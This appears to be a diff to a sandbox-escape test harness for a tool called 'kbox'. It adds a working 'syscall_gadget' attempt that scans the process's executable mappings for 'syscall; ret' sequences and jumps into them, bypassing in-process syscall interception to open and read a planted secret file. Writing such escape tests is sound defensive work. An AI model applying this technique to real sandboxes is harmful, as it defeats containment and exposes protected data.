@@ -720,10 +720,78 @@ static int a_exec_host_prog(char *d)
 
 /* ------------------------------------------------------------------ main */
 
+/*
+ * Jump into a `syscall; ret` sequence in executable memory the guest did
+ * not map itself (/proc/self/maps): under the in-process tiers that is
+ * kbox's own code, which the interception filter lets through, so the
+ * kernel resolves the path the guest chose. Only a kernel backstop
+ * (Landlock on the guest thread) stands in the way. Under the seccomp tier
+ * every mapping is the guest's own and the call is intercepted as usual.
+ */
+static long gadget_call(const unsigned char *g, long nr, long a, long b, long c)
+{
+	long ret;
+	register long r10 __asm__("r10") = 0;
+	/* skip the red zone: the call pushes a return address */
+	__asm__ volatile("sub $128, %%rsp\n\tcall *%[g]\n\tadd $128, %%rsp"
+			 : "=a"(ret)
+			 : [g] "r"(g), "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10)
+			 : "rcx", "r11", "memory", "cc");
+	return ret;
+}
+
+static int a_syscall_gadget(char *d)
+{
+	FILE *maps = fopen("/proc/self/maps", "r");
+	char line[512];
+	int tried = 0, last_err = 0;
+	if (!maps)
+		return addf(d, "no /proc/self/maps: %s", en(errno)), 0;
+	/* a few from every executable mapping, so that code the guest did
+	 * not map (kbox's, libc's) is reached whatever the layout */
+	while (tried < 64 && fgets(line, sizeof line, maps)) {
+		unsigned long lo, hi;
+		char perms[8];
+		int here = 0;
+		if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[0] != 'r' || perms[2] != 'x' ||
+		    strstr(line, "[vsyscall]"))
+			continue;
+		for (unsigned long p = lo; p + 3 <= hi && here < 4 && tried < 64; p++) {
+			const unsigned char *g = (const unsigned char *)p;
+			long fd;
+			if (g[0] != 0x0f || g[1] != 0x05 || g[2] != 0xc3)
+				continue;
+			tried++;
+			here++;
+			fd = gadget_call(g, SYS_openat, AT_FDCWD, (long)g_secret_path, O_RDONLY | O_CLOEXEC);
+			if (fd >= 0) {
+				/* read through the gadget too: the descriptor is the
+				 * host's, not in a virtual table */
+				static char buf[4096];
+				long n = gadget_call(g, SYS_read, fd, (long)buf, sizeof buf - 1);
+				int hit = n > 0 && memmem(buf, (size_t)n, g_secret, strlen(g_secret)) != NULL;
+				gadget_call(g, SYS_close, fd, 0, 0);
+				if (hit) {
+					fclose(maps);
+					return addf(d, "openat(%s) through a syscall at %p read the secret", g_secret_path,
+						    (const void *)g), 1;
+				}
+			} else {
+				last_err = (int)-fd;
+			}
+		}
+	}
+	fclose(maps);
+	return addf(d, "%d syscall;ret sequences tried, last error %s", tried, tried ? en(last_err) : "-"), 0;
+}
+
 static const struct {
 	const char *name;
 	attempt_fn fn;
 } attempts[] = {
+	/* first: under the in-process tiers the attempts run in one process,
+	 * and a later one may chroot it */
+	{ "syscall_gadget", a_syscall_gadget },
 	{ "dotdot_abs", a_dotdot_abs },
 	{ "dotdot_rel_root", a_dotdot_rel_root },
 	{ "dotdot_rel_tmp_deep", a_dotdot_rel_tmp_deep },
